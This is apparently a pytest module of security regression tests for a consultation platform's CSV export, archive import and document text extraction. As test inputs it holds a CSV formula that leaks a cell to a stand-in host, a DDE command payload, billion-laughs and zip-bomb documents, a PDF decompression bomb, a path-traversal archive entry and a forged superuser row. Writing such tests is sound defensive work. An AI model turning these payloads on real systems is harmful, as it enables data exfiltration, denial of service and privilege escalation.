"""Security review B (API v1, one's own data, text extraction, territory import): the probes an
attacker or a curious member would try, kept as regression tests."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from concertation.accounts import personal_data
from concertation.knowledge import filetypes
from concertation.knowledge.models.discussions import Comment
from concertation.knowledge.text_extraction import MAX_CHARS, extract_text
from concertation.portability.restore import import_territory
from concertation.portability.rows import ArchiveError
from tests.factories import ProposalFactory
from tests.portability.conftest import export_to, media_files, rewrite, row_counts, small  # noqa: F401 — fixture

pytestmark = pytest.mark.django_db


# One's own data: CSV cells never run as formulas ----------------------------------------------------

def _cells(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))))


def test_the_personal_data_csv_does_not_run_formulas_others_wrote():
    """A title or a follow-up written by someone else (« =HYPERLINK(…) ») is text in her spreadsheet."""
    text = personal_data._csv([{"what": '=HYPERLINK("http://x.example/?"&A1,"ok")', "n": 3, "at": "2026-01-01",
                                "tags": ["@SUM(1)"], "note": "-2+3", "plain": "Parc"}])
    header, row = _cells(text)
    cells = dict(zip(header, row, strict=True))
    assert cells["what"].startswith("'=")
    assert cells["note"] == "'-2+3"
    assert cells["n"] == "3" and cells["plain"] == "Parc" and cells["at"] == "2026-01-01"
    assert not cells["tags"].startswith(("=", "+", "-", "@"))


def test_the_personal_data_archive_quotes_a_formula_in_a_title(world):
    ProposalFactory(space=world.assembly, author=world.delegate, title="=1+1 cmd|' /C calc'!A0")
    with zipfile.ZipFile(io.BytesIO(personal_data.archive(world.delegate))) as zipped:
        names = zipped.namelist()
        rows = _cells(zipped.read("decisions.proposals.csv").decode("utf-8"))
    assert all("/" not in name.removesuffix(".csv") and ".." not in name for name in names)
    title = rows[0].index("title")
    assert rows[1][title].startswith("'=1+1")


# Territory import: a hostile archive ------------------------------------------------------------

@pytest.fixture
def archive(small, tmp_path):  # noqa: F811 — the portability fixture
    path = export_to(small.territory, tmp_path / "pointe.zip")
    small.territory.slug = "ancienne"
    small.territory.save(update_fields=["slug"])
    return path


def _rewrite_rows(path, label: str, rows: list[dict]):
    return rewrite(path, f"data/{label}.json", json.dumps(rows).encode())


def test_an_imported_comment_never_lands_on_another_territorys_object(archive, small):  # noqa: F811
    """A comment whose object is not in the archive kept its old number: on this instance that
    number names an unrelated row — here a proposal of another territory, whose discussion then
    showed a comment « by » one of its members (matched by e-mail)."""
    foreign = ProposalFactory(space=small.other_space, title="Ailleurs")
    with zipfile.ZipFile(archive) as source:
        rows = json.loads(source.read("data/knowledge.Comment.json"))
        spaces = json.loads(source.read("data/spaces.Space.json"))
        territory = json.loads(source.read("data/directory.Territory.json"))
    rows.append({"pk": 987654, "fields": {
        "territory": territory[0]["pk"], "space": spaces[0]["pk"], "target_kind": "proposal",
        "target_id": foreign.pk, "parent": None, "author": None, "body": "<p>Injecté</p>",
        "created_at": "2026-01-01T00:00:00+00:00", "updated_at": "2026-01-01T00:00:00+00:00"}})
    path = _rewrite_rows(archive, "knowledge.Comment", rows)
    with zipfile.ZipFile(path) as source:  # the counts follow the rows, as a forger would write them
        manifest = json.loads(source.read("manifest.json"))
    manifest["counts"]["knowledge.Comment"] = len(rows)
    path = rewrite(path, "manifest.json", None, manifest=manifest)
    import_territory(path, as_slug="copie")
    assert Comment.objects.filter(body="<p>Injecté</p>").exists()
    assert not Comment.objects.filter(target_kind="proposal", target_id=foreign.pk).exists()
    assert not Comment.objects.filter(target_kind="proposal", target_id=foreign.pk).exists()


def test_an_archive_lying_about_a_data_members_size_is_refused_before_reading_it(archive):
    """A few kilobytes of zip that inflate to gigabytes, the manifest declaring their size: the
    JSON members are read into memory, so their declared size is bounded."""
    with zipfile.ZipFile(archive) as source:
        manifest = json.loads(source.read("manifest.json"))
    manifest["members"]["data/spaces.Space.json"]["size"] = 10 << 30
    counts, files = row_counts(), media_files_now()
    with pytest.raises(ArchiveError, match="taille invalide"):
        import_territory(rewrite(archive, "manifest.json", None, manifest=manifest))
    assert row_counts() == counts and media_files_now() == files
    manifest["members"]["data/spaces.Space.json"]["size"] = "12"
    with pytest.raises(ArchiveError):
        import_territory(rewrite(archive, "manifest.json", None, manifest=manifest))


def media_files_now():
    from django.conf import settings

    return media_files(settings.MEDIA_ROOT)


def test_an_archive_cannot_write_a_file_outside_the_storage(archive):
    with zipfile.ZipFile(archive) as source:
        manifest = json.loads(source.read("manifest.json"))
    content = b"owned"
    path = rewrite(archive, "files/../../evil.txt", content)
    with pytest.raises(ArchiveError):
        import_territory(path)
    assert "evil.txt" not in " ".join(media_files_now())
    del manifest


def test_an_archive_cannot_make_a_superuser(archive, small):  # noqa: F811
    from django.contrib.auth import get_user_model

    with zipfile.ZipFile(archive) as source:
        people = json.loads(source.read("people.json"))
    people[0]["fields"].update(email="intrus@example.org", is_superuser=True, is_staff=True)
    path = rewrite(archive, "people.json", json.dumps(people).encode())
    import_territory(path, as_slug="copie")
    intruder = get_user_model().objects.filter(email="intrus@example.org").first()
    assert intruder is None or not (intruder.is_superuser or intruder.is_staff or intruder.has_usable_password())


# Text extraction: bombs ---------------------------------------------------------------------------

def _docx(document_xml: bytes) -> io.BytesIO:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("word/document.xml", document_xml)
    out.seek(0)
    return out


def test_entity_expansion_in_an_office_document_reads_nothing():
    laughs = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' \
             b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>' \
             b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>' \
             b'<w:r><w:t>&d;&d;&d;</w:t></w:r></w:p></w:body></w:document>'
    assert "lol" not in extract_text(_docx(laughs), filetypes.DOCX.content_type)


def test_a_zip_bomb_stops_at_the_budget():
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped, zipped.open("word/document.xml", "w") as part:
        part.write(body)
        chunk = b"a" * (1 << 20)
        for _ in range(64):  # 64 MB of text inflating from ~64 kB
            part.write(chunk)
    out.seek(0)
    assert len(extract_text(out, filetypes.DOCX.content_type)) <= MAX_CHARS



def _pdf(*contents: bytes) -> io.BytesIO:
    """A PDF of one page per content stream (compressed), in Helvetica."""
    import zlib

    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               f"<< /Type /Pages /Kids [{' '.join(f'{3 + 2 * i} 0 R' for i in range(len(contents)))}] "
               f"/Count {len(contents)} >>".encode()]
    for i, content in enumerate(contents):
        stream = zlib.compress(content, 9)
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {4 + 2 * i} 0 R "
                       "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"
                       .encode())
        objects.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream")
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    out.seek(0)
    return out


def test_a_pdf_page_that_inflates_to_megabytes_of_instructions_is_skipped():
    """Ten kilobytes of PDF whose page inflates to 3 MB of drawing instructions: pypdf parsed them
    whole (about ten seconds, in the upload's request) before the time limit, checked between pages,
    was looked at. The page is now skipped; the other pages are read."""
    light = b"BT /F1 12 Tf 10 10 Td (Bonjour) Tj ET\n"
    heavy = b"BT /F1 12 Tf 10 10 Td (Zzz) Tj ET\n" * 100_000
    pdf = _pdf(light, heavy, light)
    assert len(pdf.getvalue()) < 20_000
    text = extract_text(pdf, filetypes.PDF.content_type)
    assert text.count("Bonjour") == 2
    assert "Zzz" not in text


def test_an_imported_voter_key_never_names_a_person_the_archive_does_not_carry(archive, small):  # noqa: F811
    """``u:<id>`` of someone not in people.json kept its number: on this instance, whoever has it."""
    from concertation.decisions.models import Ballot

    with zipfile.ZipFile(archive) as source:
        rows = json.loads(source.read("data/decisions.Ballot.json"))
    stranger = small.foreigner.pk
    rows[0]["fields"]["voter_key"] = f"u:{stranger}"
    rows[0]["fields"]["person"] = None
    counts = row_counts()
    with pytest.raises(ArchiveError, match="u:"):
        import_territory(_rewrite_rows(archive, "decisions.Ballot", rows), as_slug="copie")
    assert row_counts() == counts
    assert not Ballot.objects.filter(voter_key=f"u:{stranger}").exists()
